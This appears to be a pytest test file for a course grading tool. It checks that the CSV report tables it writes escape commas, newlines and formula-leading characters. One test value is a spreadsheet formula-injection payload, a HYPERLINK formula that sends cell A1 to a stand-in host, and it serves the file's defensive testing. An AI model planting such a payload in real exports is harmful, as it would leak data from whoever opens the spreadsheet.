"""The report as tables: every student and exercise, whole after a spreadsheet has read it, and no formula."""

import csv

import pytest

from convlab.grading.report import Class, InGradebook, Student, write_tables
from convlab.grading.report.chapter import Chapter
from convlab.grading.report.tables import EXERCISES_HEADER, MISTAKES_HEADER, safe
from convlab.grading.result import ExerciseResult, Group, Result

CHAPTER = Chapter("01_conv1d", "1 · One dimension", ("correlate1d",))
CAUSE = "Your numbers are those of a convolution: the kernel is flipped. Cross-correlation reads it as it is."
EVIL = '=HYPERLINK("https://example.org/?"&A1,"x"), "two\nlines"; done'


def result(points, message="", cause=None):
    groups = {"plain": Group(points, 2), "arrays": Group(0, 1)}
    one = ExerciseResult(
        "correlate1d", points, 3, groups, "partial" if points else "failed", message, cause, 0.25
    )
    return Result("01_conv1d", 1, (one,), (), "", (), (), 1.0, {})


def klass():
    return Class(
        CHAPTER,
        (
            Student("s1", "Ada, the first", result=result(0, "…", CAUSE)),
            Student(
                "s2",
                EVIL,
                result=result(2, f"it raised {EVIL}"),
                in_gradebook=InGradebook(1.5, 3.0, 0.5, 60.0),
            ),
            Student("@s3", "Cem", handed_in=False),
            Student("s4", "Dana"),
        ),
    )


def read(file):
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return list(csv.DictReader(opened))


def test_there_is_one_row_for_each_student_and_exercise(tmp_path):
    rows = read(write_tables(klass(), tmp_path)[0])
    assert tuple(rows[0]) == EXERCISES_HEADER
    assert [(row["student"], row["verdict"], row["points"]) for row in rows] == [
        ("s1", "failed", "0"),
        ("s2", "partial", "2"),
        ("'@s3", "nothing handed in", ""),
        ("s4", "not graded yet", ""),
    ]


def test_a_row_says_groups_mistake_time_and_what_the_gradebook_says(tmp_path):
    first, second, *_ = read(write_tables(klass(), tmp_path)[0])
    assert (first["mistake"], first["told"], first["why"]) == ("flipped kernel", CAUSE, "mistake")
    assert (first["groups"], first["seconds"], first["score_in_gradebook"]) == (
        "plain 0/2; arrays 0/1",
        "0.25",
        "",
    )
    assert (second["late_seconds"], second["penalty"], second["score_in_gradebook"]) == ("60.0", "0.5", "1.5")


def test_the_mistakes_have_a_table_of_their_own(tmp_path):
    rows = read(write_tables(klass(), tmp_path / "marks.CSV")[1])
    assert (tmp_path / "marks-mistakes.CSV").is_file()
    assert tuple(rows[0]) == MISTAKES_HEADER
    assert {
        key: rows[0][key] for key in ("exercise", "mistake", "students", "share", "points_lost", "who")
    } == {
        "exercise": "correlate1d",
        "mistake": "flipped kernel",
        "students": "1",
        "share": "0.5",
        "points_lost": "3",
        "who": "s1",
    }


def test_commas_quotes_and_lines_of_a_submission_stay_in_their_cell(tmp_path):
    rows = read(write_tables(klass(), tmp_path)[0])
    assert rows[1]["name"] == f"'{EVIL}"
    assert rows[0]["name"] == "Ada, the first"


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", " =", "   @", "\n=", "\uff1d"])
def test_no_text_is_taken_for_a_formula(begins):
    assert safe(f"{begins}1+1").startswith("'")


def test_harmless_text_is_left_alone():
    assert [safe(text) for text in ("", "ünï", "a=b", "3 - 4", "'=1")] == ["", "ünï", "a=b", "3 - 4", "'=1"]


def test_the_tables_have_the_same_bytes_each_time(tmp_path):
    first, second = (
        [file.read_bytes() for file in write_tables(klass(), tmp_path / name)] for name in ("a", "b")
    )
    assert first == second
